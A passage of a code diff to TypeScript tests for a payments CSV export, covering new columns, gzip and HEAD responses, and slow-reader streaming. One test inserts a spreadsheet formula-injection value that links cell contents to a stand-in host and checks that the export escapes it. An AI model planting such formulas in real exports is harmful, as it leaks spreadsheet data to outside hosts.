@@ -1,7 +1,10 @@
 import { once } from 'node:events';
-import { get } from 'node:http';
-import { text } from 'node:stream/consumers';
+import { get, request, type IncomingMessage } from 'node:http';
+import { Transform, type TransformCallback } from 'node:stream';
+import { buffer, text } from 'node:stream/consumers';
+import { gunzipSync } from 'node:zlib';
 import { eventually } from '@evenkeel/platform/testing';
+import { nonceOf } from '../../projection/history.fixture';
 import { noon, Reporting, TOKEN } from '../reporting.fixture';
 import { aPayment, publishedOf, WALLET } from '../story.fixture';
 import { PAYMENT_TITLES } from './export-payments';
@@ -54,10 +57,10 @@ describe('payments as CSV', () => {
     });
     expect(linesOf(file.text)).toEqual([
       'id,verified_at,endpoint,amount_usd,amount_atomic,payer,network,asset,transaction_hash,status,settled_at,' +
-        'rebate_accrued_usd,request_id',
+        'rebate_accrued_usd,request_id,nonce,attributed_cost,tier,served,reason,failed_at,credit_id',
       `${payment.id},2026-02-10T11:58:00.120Z,/agent/v1/habits/analyze,0.050000,50000,` +
         '0x857b06519E91e3A54538791bDbb0E22373e36b66,eip155:8453,0x833589fCD6eDb6E08f4c7C32D4f71b54bdA02913,' +
-        `0x${'7'.repeat(64)},settled,2026-02-11T12:58:00.120Z,0.002500,request-${payment.id}`,
+        `0x${'7'.repeat(64)},settled,2026-02-11T12:58:00.120Z,0.002500,request-${payment.id},${nonceOf(payment.id)},0.000400,tier_1,true,,,`,
     ]);
   });
 
@@ -80,7 +83,7 @@ describe('payments as CSV', () => {
     const requestId = '=HYPERLINK("http://x.example?"&A1,"open")';
     await reporting.publish({ ...event!, data: { ...event!.data, requestId } });
     const file = await reporting.read('payments.csv');
-    expect(file.text).toContain(`,"'=HYPERLINK(""http://x.example?""&A1,""open"")"\r\n`);
+    expect(file.text).toContain(`,"'=HYPERLINK(""http://x.example?""&A1,""open"")",`);
   });
 
   it('are all there when there are many', async () => {
@@ -92,15 +95,83 @@ describe('payments as CSV', () => {
   });
 });
 
-describe('a reader', () => {
-  const open = async () => {
-    const request = get(reporting.running.url + PATH, { headers: { 'x-admin-token': TOKEN } });
-    request.on('error', () => undefined);
-    const [response] = (await once(request, 'response')) as [import('node:http').IncomingMessage];
-    response.on('error', () => undefined);
-    return { request, response };
+describe('a file', () => {
+  const raw = async (method: string, headers: Record<string, string> = {}) => {
+    const sent = request(reporting.running.url + PATH, { method, headers: { 'x-admin-token': TOKEN, ...headers } });
+    sent.end();
+    const [response] = (await once(sent, 'response')) as [IncomingMessage];
+    return { headers: response.headers, bytes: await buffer(response) };
   };
 
+  it('is packed for who takes gzip, and the same for who does not', async () => {
+    await manyPayments(2_000);
+    const plain = await raw('GET');
+    const packed = await raw('GET', { 'accept-encoding': 'gzip' });
+    expect([plain.headers['content-encoding'], packed.headers['content-encoding']]).toEqual([undefined, 'gzip']);
+    for (const { headers } of [plain, packed]) expect(headers.vary).toMatch(/accept-encoding/i);
+    expect(gunzipSync(packed.bytes).equals(plain.bytes)).toBe(true);
+    expect(packed.bytes.length).toBeLessThan(plain.bytes.length / 2);
+  });
+
+  it('has for HEAD the headers of GET, and no length that would be wrong', async () => {
+    await manyPayments(10);
+    const { date: _one, ...head } = (await raw('HEAD')).headers;
+    const { date: _other, 'transfer-encoding': _coding, ...get } = (await raw('GET')).headers;
+    for (const headers of [head, get]) {
+      delete headers.ratelimit;
+      delete headers['x-request-id'];
+    }
+    expect(head['content-length']).toBeUndefined();
+    expect(head).toEqual(get);
+    expect(await exportsInDatabase()).toBe(0);
+  });
+
+  it(
+    'comes whole over a slow line, and stops when its reader does',
+    async () => {
+      const rows = sized(20_000, 400_000);
+      await manyPayments(rows);
+      const line = new SlowLine(sized(8_000_000, 1_000_000));
+      const { request: sent, response } = await open();
+      const lines = (await text(response.pipe(line))).split('\r\n').slice(1, -1);
+      expect(lines).toHaveLength(rows);
+      const expected = await query<{ id: string }>('SELECT id FROM payments ORDER BY verified_at DESC, id DESC');
+      expect(lines.every((record, place) => record.startsWith(`${expected[place]!.id},`))).toBe(true);
+      sent.destroy();
+
+      const { request: stopped, response: part } = await open();
+      part.pipe(new SlowLine(1_000_000)).resume();
+      await eventually(async () => expect(await exportsInDatabase()).toBe(1));
+      stopped.destroy();
+      await eventually(async () => expect(await exportsInDatabase()).toBe(0));
+    },
+    sized(60_000, 900_000),
+  );
+});
+
+/** Lets through so many bytes a second. */
+class SlowLine extends Transform {
+  private dueMs = performance.now();
+
+  constructor(private readonly bytesPerSecond: number) {
+    super({ highWaterMark: 16_384 });
+  }
+
+  override _transform(chunk: Buffer, _encoding: string, done: TransformCallback): void {
+    this.dueMs = Math.max(this.dueMs, performance.now()) + (chunk.length / this.bytesPerSecond) * 1_000;
+    setTimeout(() => done(null, chunk), this.dueMs - performance.now());
+  }
+}
+
+const open = async () => {
+  const sent = get(reporting.running.url + PATH, { headers: { 'x-admin-token': TOKEN } });
+  sent.on('error', () => undefined);
+  const [response] = (await once(sent, 'response')) as [IncomingMessage];
+  response.on('error', () => undefined);
+  return { request: sent, response };
+};
+
+describe('a reader', () => {
   it('ends the query by going away', async () => {
     await manyPayments(30_000);
     const { request, response } = await open();
